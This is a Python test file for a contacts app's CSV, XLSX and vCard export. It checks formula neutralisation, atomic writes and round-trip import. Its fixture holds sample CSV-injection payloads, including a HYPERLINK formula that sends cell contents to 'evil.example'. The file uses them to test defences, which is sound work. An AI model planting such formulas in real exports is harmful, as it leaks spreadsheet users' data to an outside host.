"""Export to csv/xlsx/vcf: format, formula neutralisation, atomic writes and the round trip."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import openpyxl
import pytest

from app.contacts import ExportFileError, export_people, import_contacts, vcard
from app.contacts.exporting import neutralise
from app.db import Database
from app.i18n import _
from app.models import (
    Group,
    Organisation,
    Person,
    PersonEmail,
    PersonPhone,
    Quarter,
    Salutation,
)
from app.services.directory import PersonRow, list_people

FORMULA_ORG = '=HYPERLINK("http://evil.example/?q="&A1,"Klick")'


@pytest.fixture
def network(db: Database) -> Database:
    """A few people with everything an export must carry, including hostile cell values."""
    with db.write() as session:
        impuls = Group(name="Impuls.Ag")
        sport = Group(name="Sport, Spiel & Spaß")  # a comma inside a group name
        lehmheide = Quarter(name="Lehmheide")
        office = Organisation(
            name="Quartiersbüro Lehmheide",
            street="Lehmheider Str. 3",
            postcode="12345",
            city="Musterstadt",
            quarters=[lehmheide, Quarter(name="Stahldorf")],
        )
        evil = Organisation(name=FORMULA_ORG)
        session.add_all(
            [
                Person(
                    salutation=Salutation.FRAU,
                    title="Dr.",
                    first_name="Ayşe",
                    last_name="Yılmaz",
                    organisation=office,
                    function="Quartiersmanagerin",
                    preferred_language="tr",
                    notes="Erste Zeile; mit Semikolon\nZweite Zeile, mit Komma",
                    emails=[
                        PersonEmail(address="ayse@example.org", position=0),
                        PersonEmail(
                            address="ayse.yilmaz@qb-lehmheide.de", is_preferred=True, position=1
                        ),
                    ],
                    phones=[
                        PersonPhone(number="+49 30 5550303", position=0),
                        PersonPhone(number="0171 2223334", position=1),
                    ],
                    groups=[impuls, sport],
                ),
                Person(
                    salutation=Salutation.HERR,
                    first_name="Тарас",
                    last_name="Шевченко",
                    organisation=evil,
                    function="@SUM(1+1)",
                    groups=[sport],
                    emails=[PersonEmail(address="taras@example.org", is_preferred=True)],
                    phones=[PersonPhone(number="-1+1")],
                ),
                Person(
                    first_name="Thị Hoa",
                    last_name="Nguyễn",
                    preferred_language="vi",
                    notes="=1+1",
                    emails=[PersonEmail(address="hoa@example.org")],
                ),
                Person(first_name="", last_name="محمد الأحمد", groups=[impuls]),
                Person(
                    first_name="Archiv",
                    last_name="Person",
                    archived=True,
                    emails=[PersonEmail(address="archiv@example.org")],
                ),
            ]
        )
    return db


def _comparable(rows: list[PersonRow]) -> list[tuple[object, ...]]:
    return sorted(
        (
            r.salutation,
            r.title,
            r.first_name,
            r.last_name,
            r.organisation,
            r.function,
            r.preferred_email,
            tuple(sorted(r.emails)),
            r.phones,
            r.groups,
            r.quarters,
            r.preferred_language,
        )
        for r in rows
    )


def test_csv_for_german_excel(network: Database, tmp_path: Path) -> None:
    path = tmp_path / "kontakte.csv"
    assert export_people(network, path) == 4  # not the archived person
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [
        _(h)
        for h in (
            "Salutation",
            "Title",
            "First name",
            "Last name",
            "Organisation",
            "Function",
            "E-mail",
            "Other e-mails",
            "Phone",
            "Groups",
            "Quarters",
            "Language",
            "Notes",
            "Street",
            "Postcode",
            "City",
            "Country",
            "Private street",
            "Private postcode",
            "Private city",
            "Private country",
            "Organisation's street",
            "Organisation's postcode",
            "Organisation's city",
        )
    ]
    by_last = {row[3]: row for row in rows[1:]}
    ayse = by_last["Yılmaz"]
    assert ayse[0] == _("Ms")
    assert ayse[1] == "Dr."
    assert ayse[6:9] == [
        "ayse.yilmaz@qb-lehmheide.de",
        "ayse@example.org",
        "'+49 30 5550303; 0171 2223334",
    ]
    assert ayse[9] == "Impuls.Ag ::: Sport, Spiel & Spaß"  # a comma in a name: safe separator
    assert ayse[10] == "Lehmheide, Stahldorf"
    assert ayse[12] == "Erste Zeile; mit Semikolon\nZweite Zeile, mit Komma"


def test_csv_neutralises_formulas(network: Database, tmp_path: Path) -> None:
    path = tmp_path / "kontakte.csv"
    export_people(network, path)
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA_ORG in cells
    assert "'@SUM(1+1)" in cells
    assert "'-1+1" in cells
    assert "'=1+1" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_neutralise(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert neutralise("Anna " + value) == "Anna " + value


def test_xlsx_holds_text_only_never_formulas(network: Database, tmp_path: Path) -> None:
    path = tmp_path / "kontakte.xlsx"
    export_people(network, path)
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in cells)
    values = {cell.value: cell for cell in cells}
    assert FORMULA_ORG in values
    assert "=1+1" in values
    assert "@SUM(1+1)" in values
    assert values[FORMULA_ORG].quotePrefix  # stays text when edited in Excel
    assert [c.value for c in next(sheet.iter_rows(max_row=1))][:4] == [
        _("Salutation"),
        _("Title"),
        _("First name"),
        _("Last name"),
    ]


def test_vcf_is_vcard_40_with_short_lines(network: Database, tmp_path: Path) -> None:
    path = tmp_path / "kontakte.vcf"
    assert export_people(network, path) == 4
    data = path.read_bytes()
    lines = data.split(b"\r\n")
    assert lines[-1] == b""
    assert all(b"\n" not in line for line in lines)
    assert all(len(line) <= 75 for line in lines)
    cards = vcard.parse_vcards(data)
    assert [card.version for card in cards] == ["4.0"] * 4
    ayse = next(c for c in cards if "Yılmaz" in c.first("FN").value)  # type: ignore[union-attr]
    assert ayse.first("EMAIL").value == "ayse.yilmaz@qb-lehmheide.de"  # type: ignore[union-attr]
    assert ayse.first("EMAIL").pref == 1  # type: ignore[union-attr]
    assert vcard.text_list(ayse.first("CATEGORIES").value, "4.0") == [  # type: ignore[union-attr]
        "Impuls.Ag",
        "Sport, Spiel & Spaß",
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".vcf"])
def test_round_trip_into_an_empty_database(network: Database, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"kontakte{suffix}"
    export_people(network, path)
    fresh = Database.create(tmp_path / "leer.db")
    try:
        result = import_contacts(fresh, path)
        assert (result.created, result.rejected) == (4, ())
        assert _comparable(list_people(fresh)) == _comparable(list_people(network))
        # Everything else (notes, salutations, order of e-mails) through a CSV of both.
        export_people(network, tmp_path / "original.csv")
        export_people(fresh, tmp_path / "wieder.csv")
        assert (tmp_path / "wieder.csv").read_bytes() == (tmp_path / "original.csv").read_bytes()
        assert (import_contacts(fresh, path).unchanged, len(list_people(fresh))) == (4, 4)
    finally:
        fresh.close()


def test_export_selection_including_archived(network: Database, tmp_path: Path) -> None:
    everyone = {row.last_name: row.id for row in list_people(network, include_archived=True)}
    path = tmp_path / "auswahl.csv"
    count = export_people(network, path, [everyone["Person"], everyone["Nguyễn"]])
    assert count == 2
    text = path.read_bytes().decode("utf-8-sig")
    assert "archiv@example.org" in text
    assert "hoa@example.org" in text
    assert "Yılmaz" not in text


def test_export_errors_and_atomic_replacement(
    network: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ExportFileError):
        export_people(network, tmp_path / "kontakte.pdf")
    with pytest.raises(ExportFileError):
        export_people(network, tmp_path / "fehlt" / "kontakte.csv")
    path = tmp_path / "kontakte.csv"
    path.write_text("alte Liste", encoding="utf-8")

    def locked(*args: object, **kwargs: object) -> None:
        raise PermissionError(13, "Permission denied")  # Excel holds the file on Windows

    monkeypatch.setattr(os, "replace", locked)
    with pytest.raises(ExportFileError, match=r"kontakte\.csv"):
        export_people(network, path)
    assert path.read_text(encoding="utf-8") == "alte Liste"
    database_file = [] if network.is_server else ["treffpunkt.db"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kontakte.csv", *database_file]
    monkeypatch.undo()
    export_people(network, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    database_file = [] if network.is_server else ["treffpunkt.db"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["kontakte.csv", *database_file]
